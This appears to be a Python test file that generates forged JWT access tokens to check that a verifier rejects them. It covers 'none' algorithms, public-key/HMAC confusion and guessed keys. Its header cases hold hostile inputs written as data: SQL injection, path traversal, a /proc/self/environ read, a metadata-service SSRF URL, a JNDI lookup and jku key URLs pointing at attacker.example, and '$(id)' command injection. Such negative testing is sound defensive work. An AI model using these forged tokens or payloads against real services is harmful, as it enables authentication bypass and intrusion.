"""Forged access tokens: algorithms, keys and everything else in the header."""

import base64
import hashlib
import hmac
import json
from collections.abc import Callable, Iterator

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa

from tests.fakes.forge import Case, Forge, Json, compact, encoded, texts

FOREIGN_KEY = bytes(range(100, 164))


def algorithms(forge: Forge) -> Iterator[Case]:
    for alg in ("none", "None", "NONE", "nOnE", ""):
        head = encoded(compact({**forge.header, "alg": alg}))
        yield f"alg {alg!r} unsigned", f"{head}.{forge.parts[1]}."
        yield f"alg {alg!r} with the old signature", f"{head}.{forge.parts[1]}.{forge.parts[2]}"
        yield f"alg {alg!r} signed", forge.head(alg=alg)
    for alg, digest in (("HS256", "sha256"), ("HS384", "sha384")):
        yield f"alg {alg} with the right key", forge.headed({**forge.header, "alg": alg}, digest=digest)
        yield f"signed with {alg} under the header of HS512", forge.headed(forge.header, digest=digest)
    for alg in ("hs512", "HS512 ", "HS512\0", "HMACSHA512", "RS256", "ES256", "PS512", "EdDSA", "dir", "A256KW"):
        yield f"alg {alg!r} in the header", forge.head(alg=alg)
    for odd in (["HS512"], {"HS512": 1}, None, 512, True):
        yield f"alg {odd!r}", forge.head(alg=odd)
    yield "alg missing", forge.headed({k: v for k, v in forge.header.items() if k != "alg"})
    yield from public_key_confusion(forge)


def public_key_confusion(forge: Forge) -> Iterator[Case]:
    own_rsa, own_ec = rsa.generate_private_key(65537, 2048), ec.generate_private_key(ec.SECP256R1())
    signers: dict[str, Callable[[bytes], bytes]] = {
        "RS256": lambda text: own_rsa.sign(text, padding.PKCS1v15(), hashes.SHA256()),
        "PS256": lambda text: own_rsa.sign(text, padding.PSS(padding.MGF1(hashes.SHA256()), 32), hashes.SHA256()),
        "ES256": lambda text: own_ec.sign(text, ec.ECDSA(hashes.SHA256())),
    }
    numbers = own_rsa.public_key().public_numbers()
    jwk = {"kty": "RSA", "e": "AQAB", "n": encoded(numbers.n.to_bytes(256, "big"))}
    for alg, sign in signers.items():
        for extra in ({}, {"jwk": jwk}, {"jku": "https://attacker.example/keys.json"}):
            head = encoded(compact({**forge.header, "alg": alg, **extra}))
            text = f"{head}.{forge.parts[1]}"
            yield f"{alg} by the attacker's key {sorted(extra)}", f"{text}.{encoded(sign(text.encode()))}"
    form = serialization.PublicFormat.SubjectPublicKeyInfo
    for kind, public in (("RSA", own_rsa.public_key()), ("EC", own_ec.public_key())):
        for name, encoding in (("PEM", serialization.Encoding.PEM), ("DER", serialization.Encoding.DER)):
            data = public.public_bytes(encoding, form)
            yield f"HS512 keyed with an {kind} public key as {name}", forge.headed(forge.header, data)
            hs256 = {**forge.header, "alg": "HS256"}
            yield f"HS256 keyed with an {kind} public key as {name}", forge.headed(hs256, data, "sha256")


def keys(forge: Forge) -> Iterator[Case]:
    secret = forge.secret
    guesses = {
        "nothing": b"", "zeros": bytes(64), "a word": b"secret", "another deployment's secret": FOREIGN_KEY,
        "the first half": secret[:32], "all but one byte": secret[:-1], "one byte more": secret + b"\1",
        "backwards": secret[::-1], "base64 of it": base64.b64encode(secret), "hexadecimal of it": secret.hex().encode(),
        "its hash": hashlib.sha512(secret).digest(), "its kid": str(forge.header["kid"]).encode(),
        "its kid's bytes": bytes.fromhex(forge.header["kid"]), "the issuer": str(forge.claims["iss"]).encode(),
    }  # fmt: skip
    for name, key in guesses.items():
        yield f"key: {name}", forge.sign(forge.parts[0], forge.parts[1], key)
    foreign = hmac.digest(FOREIGN_KEY, b"governlayer/kid", "sha256").hex()[:16]
    yield "key and kid of another deployment", forge.headed({**forge.header, "kid": foreign}, FOREIGN_KEY)


def key_ids(forge: Forge) -> Iterator[Case]:
    kid = forge.header["kid"]
    odd = [
        "", "0", "0" * 16, kid.upper() + " ", kid[:-1], kid + "0", kid + "\0", " " + kid, "*", "%", "/dev/null",
        "../../../../dev/null", "..\\..\\nul", "file:///dev/null", "/proc/self/environ", "x' UNION SELECT 'key'--",
        "' OR 1=1 --", "https://attacker.example/key", "http://169.254.169.254/", "${jndi:ldap://attacker.example/}",
        "{{7*7}}", "|id", "$(id)", "kid\r\nX-Header: 1", "a" * 900, [], [kid], {}, {"kid": kid}, 0, 1.5, True, None,
        "é", "\ud800",
    ]  # fmt: skip
    for value in odd:
        header = {**forge.header, "kid": value}
        name = repr(value)[:50]
        yield f"kid {name} with the right key", forge.headed(header)
        if value in ("/dev/null", "../../../../dev/null", "file:///dev/null"):
            yield f"kid {name} with the key nothing", forge.headed(header, b"")
    yield "kid missing", forge.headed({k: v for k, v in forge.header.items() if k != "kid"})
    yield (
        "kid injected, signed with what it selects",
        forge.headed({**forge.header, "kid": "x' UNION SELECT 'key'--"}, b"key"),
    )


def headers(forge: Forge) -> Iterator[Case]:
    extras: list[Json] = [
        {"crit": []}, {"crit": ["exp"]}, {"crit": ["b64"], "b64": True}, {"crit": "b64"}, {"b64": True}, {"b64": False},
        {"crit": ["b64"], "b64": False}, {"jku": "https://attacker.example/keys.json"}, {"jwk": {"kty": "oct", "k": "AA"}},
        {"x5u": "https://attacker.example/cert.pem"}, {"x5c": ["MIIB"]}, {"x5t": "AA"}, {"x5t#S256": "AA"},
        {"cty": "JWT"}, {"zip": "DEF"}, {"enc": "A256GCM"}, {"url": "https://attacker.example/"}, {"nonce": "1"},
        {"exp": forge.now_s + 60}, {"unknown": 1}, {"typ": "JWT"}, {"typ": "jwt"}, {"typ": "at+JWT"}, {"typ": None},
        {"typ": "application/at+jwt"}, {"typ": ["at+jwt"]}, {"typ": "dpop+jwt"}, {"typ": "JOSE"},
    ]  # fmt: skip
    for extra in extras:
        yield f"header {json.dumps(extra)[:60]}", forge.head(**extra)
    yield "typ missing", forge.headed({k: v for k, v in forge.header.items() if k != "typ"})
    yield (
        "unencoded payload (RFC 7797)",
        forge.sign(encoded(compact({**forge.header, "b64": False, "crit": ["b64"]})), compact(forge.claims).decode()),
    )


def header_texts(forge: Forge) -> Iterator[Case]:
    kid, text = forge.header["kid"], compact(forge.header)
    for name, data in texts(text):
        yield f"header {name}", forge.sign(encoded(data), forge.parts[1])
    doubles = {
        "alg": b'{"alg":"none",' + text[1:], "alg the other way": text[:-1] + b',"alg":"none"}',
        "kid": b'{"kid":"x",' + text[1:], "the same alg": b'{"alg":"HS512",' + text[1:],
        "kid in escapes": text[:-1] + b',"\\u006bid":"x"}',
    }  # fmt: skip
    for name, data in doubles.items():
        yield f"header doubles {name}", forge.sign(encoded(data), forge.parts[1])
    yield "header in another order", forge.headed({"typ": "at+jwt", "kid": kid, "alg": "HS512"})
